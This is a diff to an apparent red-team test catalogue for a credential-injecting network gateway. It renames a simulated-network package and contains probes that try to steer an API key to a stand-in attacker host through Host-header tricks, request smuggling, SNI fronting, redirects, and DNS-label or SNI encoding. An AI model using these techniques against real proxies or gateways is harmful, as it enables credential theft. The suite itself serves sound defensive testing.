@@ -9,7 +9,7 @@ import (
 	"strings"
 
 	"github.com/custody-project/custody/audit"
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // steering are the probes that would have the gateway put a credential into what someone else gets.
@@ -20,14 +20,14 @@ func (c *catalogue) steering() {
 		}
 		c.secretive(Probe{ID: "steer/" + id, Title: title, Bypass: bypass, step: "steer", task: t, binds: []secret{apiKey}, proof: deniedOrEnded})
 	}
-	other := "other." + world.Wild
+	other := "other." + simnet.Wild
 	for _, h := range []struct {
 		id, title string
 		bypass    Bypass
 		text      string
 	}{
 		{"host", "another Host, which a rule allows, where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
-		{"host-attacker", "the attacker's Host where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {T}." + world.Attacker + "\r\n\r\n"},
+		{"host-attacker", "the attacker's Host where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {T}." + simnet.Attacker + "\r\n\r\n"},
 		{"host-two", "two Hosts where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
 		{"host-port", "another port in Host where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}:8443\r\n\r\n"},
 		{"crlf-before", "an empty line before a request to another Host where a credential is put in", LeadingCRLF, "\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
@@ -37,7 +37,7 @@ func (c *catalogue) steering() {
 			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 		{"connect", "CONNECT where a credential is put in", Fronting, "CONNECT {O}:443 HTTP/1.1\r\nHost: {O}:443\r\n\r\n"},
 	} {
-		add(h.id, h.title, h.bypass, tlsTo(world.API, c.fill(h.text, world.API, other)))
+		add(h.id, h.title, h.bypass, tlsTo(simnet.API, c.fill(h.text, simnet.API, other)))
 	}
 	for _, h := range []struct {
 		id, title string
@@ -45,33 +45,33 @@ func (c *catalogue) steering() {
 		fields    []string
 	}{
 		{"h2-authority", "another :authority where a credential is put in", Fronting, []string{":authority", other}},
-		{"h2-host", "another host beside :authority where a credential is put in", Steering, []string{":authority", world.API, "host", other}},
+		{"h2-host", "another host beside :authority where a credential is put in", Steering, []string{":authority", simnet.API, "host", other}},
 	} {
-		t := tlsTo(world.API, "")
+		t := tlsTo(simnet.API, "")
 		t.TLS.ALPN = []string{"h2"}
 		fields := append([]string{":method", "GET", ":scheme", "https", ":path", "/v1/" + c.token()}, h.fields...)
 		t.Send = []piece{{Data: h2(fields...)}}
 		add(h.id, h.title, h.bypass, t)
 	}
-	t := tlsTo("public-"+c.token()+"."+world.Rebind, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))
-	t.TLS.SNI = world.API
+	t := tlsTo("public-"+c.token()+"."+simnet.Rebind, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))
+	t.TLS.SNI = simnet.API
 	add("address", "the credential's name in TLS and Host, at the address of another", Fronting, t)
 	c.last().allowed = asks
-	t = tlsTo(world.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))
+	t = tlsTo(simnet.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))
 	t.TLS.SNI = other
 	add("sni", "another name in TLS, at the address of the credential's", Fronting, t)
-	clear := &task{Do: "talk", Name: world.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))}
+	clear := &task{Do: "talk", Name: simnet.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))}
 	c.secretive(Probe{ID: "steer/clear", step: "steer", Title: "a request in the clear to the credential's host: nothing is put in", Bypass: Steering, allowed: reaches, task: clear, binds: []secret{apiKey},
 		proof: allowedFlow, outer: notInTheClear})
 	c.secretive(Probe{ID: "steer/redirect", Title: "a redirect of the credential's host to another one, with a client that sends the header again", Bypass: Steering, allowed: reaches,
 		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"), outer: notFollowed,
-		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
+		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
 	c.secretive(Probe{ID: "steer/redirect-clear", step: "steer", Title: "a redirect of the credential's host to itself in the clear", Bypass: Steering, allowed: reaches,
 		binds: []secret{apiKey}, outer: notFollowed, proof: denied,
-		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=http://"+world.API+"/v1/"+c.token()+"'")})
+		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=http://"+simnet.API+"/v1/"+c.token()+"'")})
 }
 
-// notInTheClear finds fault with a value that its own host was told, but without TLS.
+// notInTheClear reports a value that its own host received without TLS.
 func notInTheClear(t *trial, p Probe, said report) string {
 	for _, r := range t.world.Requests() {
 		if r.SNI == "" && shown([]byte(fmt.Sprint(r.URI, r.Header, r.Body)), t.values[apiKey.name]) != "" {
@@ -105,11 +105,11 @@ func (c *catalogue) secondAuth() {
 		{"query-semicolon", "the same behind a semicolon", "GET /v1/{T}?a=b;access_token=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"proxy", "a header for proxies that authenticates", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Forwarded-Authorization: own-key-of-{T}\r\n\r\n"},
 	} {
-		t := refusedTo(world.API, c.fill(h.text, world.API, ""))
+		t := refusedTo(simnet.API, c.fill(h.text, simnet.API, ""))
 		c.secretive(Probe{ID: "second/" + h.id, Title: h.title, Bypass: SecondAuth, step: "second", task: t, binds: []secret{apiKey}, proof: denied})
 	}
 	c.secretive(Probe{ID: "second/cookie", step: "second", Title: "a session of the guest's own in a cookie: it is left out", Bypass: SecondAuth, allowed: reaches, binds: []secret{apiKey}, proof: allowedFlow,
-		task: tlsTo(world.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nCookie: session=own-key-of-{T}\r\nConnection: close\r\n\r\n", world.API, "")),
+		task: tlsTo(simnet.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nCookie: session=own-key-of-{T}\r\nConnection: close\r\n\r\n", simnet.API, "")),
 		outer: func(t *trial, p Probe, _ report) string {
 			for _, r := range t.world.Requests() {
 				if strings.Contains(fmt.Sprint(r.Header), "own-key-of-"+p.token) {
@@ -122,7 +122,7 @@ func (c *catalogue) secondAuth() {
 
 // placeholders are the probes of what stands for a credential in the step.
 func (c *catalogue) placeholders() {
-	other := "other." + world.Wild
+	other := "other." + simnet.Wild
 	add := func(id, title string, allowed reach, t *task, proof evidence) {
 		t.Enough = "\r\n\r\n"
 		c.secretive(Probe{ID: "holder/" + id, Title: title, Bypass: Elsewhere, allowed: allowed, task: t, binds: []secret{apiKey}, proof: proof})
@@ -138,17 +138,17 @@ func (c *catalogue) placeholders() {
 		add(h.id, "a placeholder to another host whose rule has http: "+h.title, nothing, tlsTo(other, c.fill(h.text, other, "")), astray)
 	}
 	c.secretive(Probe{ID: "holder/unread", step: "holder", Title: "a placeholder to another host whose TLS is not opened: the value does not come in its place", Bypass: Elsewhere, allowed: reaches,
-		task:  tlsTo(world.Allowed, c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n", world.Allowed, "")),
-		binds: []secret{apiKey}, proof: flowTo(world.Allowed), outer: onlyPlaceholder})
+		task:  tlsTo(simnet.Allowed, c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n", simnet.Allowed, "")),
+		binds: []secret{apiKey}, proof: flowTo(simnet.Allowed), outer: onlyPlaceholder})
 	add("clear", "a placeholder to another host in the clear on port 80", nothing,
-		&task{Do: "talk", Name: world.Plain, Port: 80, Send: once(c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", world.Plain, ""))}, astray)
+		&task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", simnet.Plain, ""))}, astray)
 	add("clear-own", "a placeholder to its own host in the clear on port 80", nothing,
-		&task{Do: "talk", Name: world.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", world.API, ""))}, denied)
-	add("sni", "a placeholder in a TLS name, in hex", asks, sniTask("public-"+c.token()+"."+world.Rebind, "{{API_KEY|labels16}}."+world.Rebind), astray)
-	add("dns", "a placeholder in the labels of a name, in base32", nothing, &task{Do: "talk", Name: "{{API_KEY|labels32}}." + world.Wild, Port: 443,
-		TLS: &tlsTask{SNI: "{{API_KEY|labels32}}." + world.Wild}, Send: once("x")}, astray)
+		&task{Do: "talk", Name: simnet.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", simnet.API, ""))}, denied)
+	add("sni", "a placeholder in a TLS name, in hex", asks, sniTask("public-"+c.token()+"."+simnet.Rebind, "{{API_KEY|labels16}}."+simnet.Rebind), astray)
+	add("dns", "a placeholder in the labels of a name, in base32", nothing, &task{Do: "talk", Name: "{{API_KEY|labels32}}." + simnet.Wild, Port: 443,
+		TLS: &tlsTask{SNI: "{{API_KEY|labels32}}." + simnet.Wild}, Send: once("x")}, astray)
 	c.secretive(Probe{ID: "holder/own-body", step: "holder", Title: "a placeholder in a body to its own host: the value does not come in its place", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey},
-		task: tlsTo(world.API, c.fill("POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{API_KEY|length}}\r\nConnection: close\r\n\r\n{{API_KEY|raw}}", world.API, "")), proof: allowedFlow,
+		task: tlsTo(simnet.API, c.fill("POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{API_KEY|length}}\r\nConnection: close\r\n\r\n{{API_KEY|raw}}", simnet.API, "")), proof: allowedFlow,
 		outer: func(t *trial, p Probe, _ report) string {
 			for _, r := range t.world.Requests() {
 				if strings.Contains(r.URI, p.token) && shown([]byte(r.Body+r.URI), t.values[apiKey.name]) != "" {
@@ -162,7 +162,7 @@ func (c *catalogue) placeholders() {
 // onlyPlaceholder finds fault with the value, not with what stands for it.
 func onlyPlaceholder(t *trial, p Probe, _ report) string { return spilled(t, p, report{}) }
 
-// refusedTo is a task that ends with the first answer: it is a refusal, or the host's own servers tell of it.
+// refusedTo is a task that ends with the first answer: a refusal, or an answer that the host's own servers have logged.
 func refusedTo(name, text string) *task {
 	t := tlsTo(name, text)
 	t.Enough = "\r\n\r\n"
@@ -195,7 +195,7 @@ func (c *catalogue) reflections() {
 				proof: answered, outer: masked})
 		}
 		path := "/v1/reflect?as=" + h.as + "&"
-		add(h.as, "", tlsTo(world.API, "GET "+path+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nAccept-Encoding: gzip, br\r\nConnection: close\r\n\r\n"))
+		add(h.as, "", tlsTo(simnet.API, "GET "+path+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nAccept-Encoding: gzip, br\r\nConnection: close\r\n\r\n"))
 	}
 	for _, how := range []struct{ as, method, title string }{
 		{"head", "HEAD", "the body of an answer to HEAD"}, {"204", "GET", "the body of an answer that has none (204)"}, {"304", "GET", "the body of an answer that has none (304)"},
@@ -203,12 +203,12 @@ func (c *catalogue) reflections() {
 	} { // each takes its step's credentials away
 		c.secretive(Probe{ID: "reflect/beyond-" + how.as, step: "beyond-" + how.as, Title: "a host gives a credential back in " + how.title, Bypass: Reflection, allowed: reaches, binds: []secret{apiKey},
 			proof: flagged("secret-after-answer"), outer: unsaid,
-			task: tlsTo(world.API, how.method+" /v1/reflect?as=beyond-"+how.as+"&"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nConnection: close\r\n\r\n")})
+			task: tlsTo(simnet.API, how.method+" /v1/reflect?as=beyond-"+how.as+"&"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nConnection: close\r\n\r\n")})
 	}
 	c.secretive(Probe{ID: "reflect/h2", step: "reflect", Title: "an answer gives a credential back in HTTP/2, compressed as the client asks", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
-		task: program("curl", "-sS", "--http2", "--compressed", "-m", "15", "https://"+world.API+"/v1/reflect?as=gzip&"+c.token())})
+		task: program("curl", "-sS", "--http2", "--compressed", "-m", "15", "https://"+simnet.API+"/v1/reflect?as=gzip&"+c.token())})
 	c.secretive(Probe{ID: "reflect/range", step: "reflect", Title: "an answer gives a credential back in ranges that the client asks for", Bypass: MaskOpen, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
-		task: tlsTo(world.API, "GET /v1/reflect?as=raw&"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nRange: bytes=9-30\r\nConnection: close\r\n\r\n")})
+		task: tlsTo(simnet.API, "GET /v1/reflect?as=raw&"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nRange: bytes=9-30\r\nConnection: close\r\n\r\n")})
 }
 
 // answered: the record has the request with its credential.
